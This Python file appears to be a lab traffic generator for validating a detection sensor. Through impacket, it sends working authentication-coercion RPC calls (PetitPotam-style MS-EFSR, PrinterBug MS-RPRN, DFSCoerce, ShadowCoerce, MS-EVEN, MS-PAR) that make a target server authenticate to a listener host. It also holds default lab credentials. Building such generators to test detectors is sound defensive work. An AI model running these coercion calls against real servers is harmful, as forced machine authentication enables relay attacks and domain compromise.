"""The lab's coercion-family client: what Coercer and NetExec's coerce_plus send, one technique
at a time, over impacket's transports. Prints one JSON line per request sent (the ground truth).

  family_client.py --technique efsr --target 10.0.0.10 --listener 10.0.0.66 --pipe lsarpc --opnums 0,4
  family_client.py --technique rprn --target 10.0.0.10 --listener 10.0.0.66 --dialect default

Where the stub bytes come from (so that decoding them is a real test of the sensor):
- MS-RPRN 1/65, MS-EVEN 9, MS-PAR 0: impacket's own rprn, even and par request types, filled
  the way printerbug.py, CheeseOunce and Coercer fill them;
- MS-EFSR, MS-FSRVP, MS-RPRN 62 and MS-DFSNM NetrDfsRemove2: marshalled by hand below from the
  IDL (C706 chapter 14 / MS-RPCE 2.2.5), not with the sensor's types.
``args`` lists what was sent by IDL name: strings, and integers of the top-level [in] scalars;
NULL pointers, handles and structures are left out (the sensor reports those the same way).
"""
from __future__ import annotations

import argparse
import json
import struct
import sys
import time

from impacket.dcerpc.v5 import even, par, rprn
from impacket.dcerpc.v5 import transport as rpc_transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import string_to_bin, uuidtup_to_bin

from dfscoerce_client import AUTH_LEVELS, DIALECTS, smb_encrypted

INTERFACES = {   # technique -> (uuid, version, default pipe)
    "efsr": ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0", "lsarpc"),
    "efsr-efsrpc": ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0", "efsrpc"),
    "rprn": ("12345678-1234-abcd-ef00-0123456789ab", "1.0", "spoolss"),
    "even": ("82273fdc-e32a-18c3-3f78-827929dc23ea", "0.0", "eventlog"),
    "fsrvp": ("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0", "FssagentRpc"),
    "par": ("76f03f96-cdfd-44fc-a22c-64950a001209", "1.0", None),
    "dfsnm": ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0", "netdfs"),
}
PAR_OBJECT_UUID = "9940CA8E-512F-4C58-88A9-61098D6896BD"   # MS-PAR 2.1: every request carries it
REFERENT = 0x00020000                                      # any non-zero referent id (C706 14.3.10)


# -- NDR20 by hand -----------------------------------------------------------------------------
class Ndr:
    """A little-endian NDR20 stub writer: just the primitives the IDL calls below use."""

    def __init__(self) -> None:
        self.buf = bytearray()
        self.next_ref = REFERENT

    def align(self, n: int) -> None:
        self.buf += b"\x00" * (-len(self.buf) % n)

    def u32(self, value: int) -> "Ndr":
        self.align(4)
        self.buf += struct.pack("<I", value)
        return self

    def ref(self) -> "Ndr":          # a non-NULL unique pointer's referent id
        self.u32(self.next_ref)
        self.next_ref += 4
        return self

    def string(self, text: str) -> "Ndr":
        """[string] wchar_t*: max count, offset 0, actual count (NUL included), UTF-16LE units."""
        units = (text + "\x00").encode("utf-16-le")
        self.u32(len(units) // 2).u32(0).u32(len(units) // 2)
        self.buf += units
        return self

    def unique_string(self, text: str | None) -> "Ndr":
        return self.u32(0) if text is None else self.ref().string(text)

    def bytes(self) -> bytes:
        return bytes(self.buf)


def efsr_call(opnum: int, path: str) -> tuple[bytes, dict]:
    """MS-EFSR 3.1.4.2.x [in] parameters; every FileName the listener's UNC path."""
    n = Ndr()
    if opnum == 0:
        n.string(path).u32(0)
        return n.bytes(), {"FileName": path, "Flags": 0}
    if opnum in (4, 6, 7, 18):
        return n.string(path).bytes(), {"FileName": path}
    if opnum == 5:
        return n.string(path).u32(0).bytes(), {"FileName": path, "OpenFlag": 0}
    if opnum in (8, 9):      # a hash list / certificate list: count 0, NULL array
        return n.string(path).u32(0).u32(0).bytes(), {"FileName": path}
    if opnum == 12:
        return n.string(path).u32(0).bytes(), {"FileName": path, "InfoClass": 0}
    if opnum == 13:          # SrcFileName, DestFileName, dwCreationDisposition, dwAttributes, RelativeSD NULL, bInheritHandle
        n.string(path).string(path).u32(0).u32(0).u32(0).u32(0)
        return n.bytes(), {"SrcFileName": path, "DestFileName": path, "dwCreationDisposition": 0,
                           "dwAttributes": 0, "bInheritHandle": 0}
    if opnum == 15:          # dwFlags, Reserved NULL, FileName, certificate list (0, NULL)
        n.u32(0).u32(0).string(path).u32(0).u32(0)
        return n.bytes(), {"dwFlags": 0, "FileName": path}
    if opnum == 16:          # dwFileKeyInfoFlags, Reserved NULL, FileName, InfoClass
        n.u32(0).u32(0).string(path).u32(0)
        return n.bytes(), {"dwFileKeyInfoFlags": 0, "FileName": path, "InfoClass": 0}
    if opnum == 19:          # FileName, OldEfsStreamBlob NULL, NewEfsStreamBlob {0, NULL}, NewEfsSignature NULL
        n.string(path).u32(0).u32(0).u32(0).u32(0)
        return n.bytes(), {"FileName": path}
    if opnum == 21:          # FileName, ProtectorDescriptor NULL, Flags
        return n.string(path).u32(0).u32(0).bytes(), {"FileName": path, "Flags": 0}
    raise SystemExit(f"efsr: opnum {opnum} is not a path call")


EFSR_NAMES = {0: "EfsRpcOpenFileRaw", 4: "EfsRpcEncryptFileSrv", 5: "EfsRpcDecryptFileSrv",
              6: "EfsRpcQueryUsersOnFile", 7: "EfsRpcQueryRecoveryAgents", 8: "EfsRpcRemoveUsersFromFile",
              9: "EfsRpcAddUsersToFile", 12: "EfsRpcFileKeyInfo", 13: "EfsRpcDuplicateEncryptionInfoFile",
              15: "EfsRpcAddUsersToFileEx", 16: "EfsRpcFileKeyInfoEx", 18: "EfsRpcGetEncryptedFileMetadata",
              19: "EfsRpcSetEncryptedFileMetadata", 21: "EfsRpcEncryptFileExSrv"}


def fsrvp_call(opnum: int, share: str) -> tuple[bytes, dict]:
    """MS-FSRVP 3.1.4.9/3.1.4.10: [in, string] LPWSTR ShareName."""
    return Ndr().string(share).bytes(), {"ShareName": share}


def remove2_call(entry: str, dc_name: str | None, server: str, share: str, nullable_dc: bool) -> tuple[bytes, dict]:
    """MS-DFSNM 3.1.4.2.2, by hand: DcName [in, string] per the MIDL syntax, or, ``nullable_dc``,
    as the [unique] pointer its text allows ("MAY be a NULL pointer"); ppRootList a non-NULL
    pointer to a NULL DFSM_ROOT_LIST* (what a MIDL client passes for &list with list = NULL)."""
    n = Ndr().string(entry)
    if nullable_dc:
        n.unique_string(dc_name)
    else:
        n.string(dc_name or "")
    n.unique_string(server).unique_string(share).ref().u32(0)
    args = {"DfsEntryPath": entry, "ServerName": server, "ShareName": share}
    if dc_name is not None:
        args["DcName"] = dc_name
    return n.bytes(), args


def rprn_find_first(handle: bytes, local_machine: str) -> tuple[bytes, dict]:
    """MS-RPRN 3.1.4.10.3 RpcRemoteFindFirstPrinterChangeNotification (62) by hand: hPrinter,
    fdwFlags, fdwOptions, [unique, string] pszLocalMachine, dwPrinterLocal, cbBuffer, pBuffer NULL."""
    n = Ndr()
    n.buf += handle
    n.u32(0x100).u32(0).unique_string(local_machine).u32(0).u32(0).u32(0)
    return n.bytes(), {"fdwFlags": 0x100, "fdwOptions": 0, "pszLocalMachine": local_machine,
                       "dwPrinterLocal": 0, "cbBuffer": 0}


# -- transport -------------------------------------------------------------------------------
def connect(opts, uuid: str, version: str):
    if opts.transport == "tcp":
        binding = rf"ncacn_ip_tcp:{opts.target}[{opts.port}]"
    else:
        binding = rf"ncacn_np:{opts.target}[\pipe\{opts.pipe}]"
    trans = rpc_transport.DCERPCTransportFactory(binding)
    trans.set_credentials(opts.user, opts.password, opts.domain)
    if opts.transport == "np" and DIALECTS[opts.dialect] is not None:
        trans.preferred_dialect(DIALECTS[opts.dialect])
    dce = trans.get_dce_rpc()
    dce.set_auth_level(AUTH_LEVELS[opts.auth_level])
    dce.connect()
    dce.bind(uuidtup_to_bin((uuid, version)))
    return trans, dce


def raw_call(dce, opnum: int, stub: bytes, object_uuid: str | None = None) -> str:
    try:
        dce.call(opnum, stub, string_to_bin(object_uuid) if object_uuid else None)
        dce.recv()
        return "ok"
    except DCERPCException as exc:
        return str(exc)


def typed_call(dce, request, object_uuid: bytes | None = None) -> tuple[str, object]:
    try:
        return "ok", dce.request(request, object_uuid)
    except DCERPCException as exc:
        return str(exc), None


def requests(opts, dce):
    """Yield (opnum, function, args) after sending each request."""
    listener = opts.listener
    unc = opts.path or f"\\\\{listener}\\share\\file.txt"
    if opts.technique.startswith("efsr"):
        for opnum in opts.opnums or [0, 4, 5, 6, 7, 8, 9, 12, 13, 15, 16, 18, 19, 21]:
            stub, args = efsr_call(opnum, unc)
            yield opnum, EFSR_NAMES[opnum], args, raw_call(dce, opnum, stub)
    elif opts.technique == "fsrvp":
        share = opts.path or f"\\\\{listener}\\share"
        for opnum in opts.opnums or [8, 9]:
            stub, args = fsrvp_call(opnum, share)
            yield opnum, {8: "IsPathSupported", 9: "IsPathShadowCopied"}[opnum], args, raw_call(dce, opnum, stub)
    elif opts.technique == "even":
        path = opts.path or f"\\??\\UNC\\{listener}\\share\\x.evt"
        request = even.ElfrOpenBELW()
        request["UNCServerName"] = NULL
        request["BackupFileName"] = path + "\x00"        # impacket's string types carry the NUL
        request["MajorVersion"] = 1
        request["MinorVersion"] = 1
        status, _ = typed_call(dce, request)
        yield 9, "ElfrOpenBELW", {"BackupFileName": path, "MajorVersion": 1, "MinorVersion": 1}, status
    elif opts.technique == "rprn":
        printer = f"\\\\{opts.target}\x00"
        request = rprn.RpcOpenPrinter()
        request["pPrinterName"] = printer
        request["pDatatype"] = NULL
        request["pDevModeContainer"]["pDevMode"] = NULL
        request["AccessRequired"] = rprn.SERVER_READ
        status, answer = typed_call(dce, request)
        yield 1, "RpcOpenPrinter", {"pPrinterName": printer[:-1], "AccessRequired": rprn.SERVER_READ}, status
        handle = answer["pHandle"] if status == "ok" else b"\x00" * 20
        local = opts.path or f"\\\\{listener}"
        for opnum in opts.opnums or [65]:
            if opnum == 65:
                request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
                request["hPrinter"] = handle
                request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
                request["fdwOptions"] = 0
                request["pszLocalMachine"] = local + "\x00"
                request["dwPrinterLocal"] = 0
                request["pOptions"] = NULL
                status, _ = typed_call(dce, request)
                yield 65, "RpcRemoteFindFirstPrinterChangeNotificationEx", {
                    "fdwFlags": rprn.PRINTER_CHANGE_ADD_JOB, "fdwOptions": 0, "pszLocalMachine": local,
                    "dwPrinterLocal": 0}, status
            else:
                stub, args = rprn_find_first(bytes(handle), local)
                yield 62, "RpcRemoteFindFirstPrinterChangeNotification", args, raw_call(dce, 62, stub)
    elif opts.technique == "par":
        printer = opts.path or f"\\\\{listener}\\printer"
        request = par.RpcAsyncOpenPrinter()
        request["pPrinterName"] = printer + "\x00"
        request["pDatatype"] = NULL
        request["pDevModeContainer"]["pDevMode"] = NULL
        request["AccessRequired"] = 0x20000          # PRINTER_READ (MS-RPRN 2.2.3.1)
        request["pClientInfo"]["Level"] = 1
        request["pClientInfo"]["ClientInfo"]["tag"] = 1
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["dwSize"] = 28
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["pMachineName"] = "ATTACKER\x00"
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["pUserName"] = "labuser\x00"
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["dwBuildNum"] = 7600
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["dwMajorVersion"] = 3
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["dwMinorVersion"] = 0
        request["pClientInfo"]["ClientInfo"]["pClientInfo1"]["wProcessorArchitecture"] = 9
        status, _ = typed_call(dce, request, string_to_bin(PAR_OBJECT_UUID))
        yield 0, "RpcAsyncOpenPrinter", {"pPrinterName": printer, "AccessRequired": 0x20000}, status
    elif opts.technique == "dfsnm":
        entry = f"\\\\{listener}\\share\\link"
        for nullable in (False, True):
            stub, args = remove2_call(entry, None if nullable else "DC01", listener, "share", nullable)
            yield 20, "NetrDfsRemove2", args, raw_call(dce, 20, stub)


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--technique", choices=INTERFACES, required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--listener", required=True, help="host the coerced server should call back")
    p.add_argument("--path", help="the listener argument verbatim (default: a UNC path on --listener)")
    p.add_argument("--transport", choices=("np", "tcp"), default="np")
    p.add_argument("--pipe", help="named pipe (default: the interface's)")
    p.add_argument("--port", type=int, default=445)
    p.add_argument("--user", default="labuser")
    p.add_argument("--password", default="Passw0rd!")
    p.add_argument("--domain", default="LAB")
    p.add_argument("--dialect", choices=DIALECTS, default="default")
    p.add_argument("--auth-level", choices=AUTH_LEVELS, default="none")
    p.add_argument("--opnums", type=lambda s: [int(o) for o in s.split(",")], default=None)
    opts = p.parse_args(argv)
    uuid, version, pipe = INTERFACES[opts.technique]
    opts.pipe = opts.pipe or pipe
    trans, dce = connect(opts, uuid, version)
    client_ip, client_port = trans.get_socket().getsockname()[:2]
    encrypted = smb_encrypted(trans) if opts.transport == "np" else False
    sealed = opts.auth_level == "privacy"
    dialect = hex(trans.get_smb_connection().getDialect()) if opts.transport == "np" else ""
    sent = time.time()
    for opnum, function, args, status in requests(opts, dce):
        print(json.dumps({
            "interface_uuid": uuid, "opnum": opnum, "function": function, "args": args,
            "decodable": not (sealed or encrypted), "sealed": sealed, "smb_encrypted": encrypted,
            "dialect": dialect, "transport": opts.transport, "pipe": opts.pipe if opts.transport == "np" else "",
            "client_ip": client_ip, "client_port": client_port, "server_ip": opts.target,
            "server_port": opts.port, "sent": sent, "status": status,
        }), flush=True)
        sent = time.time()
    dce.disconnect()
    return 0


if __name__ == "__main__":
    sys.exit(main())
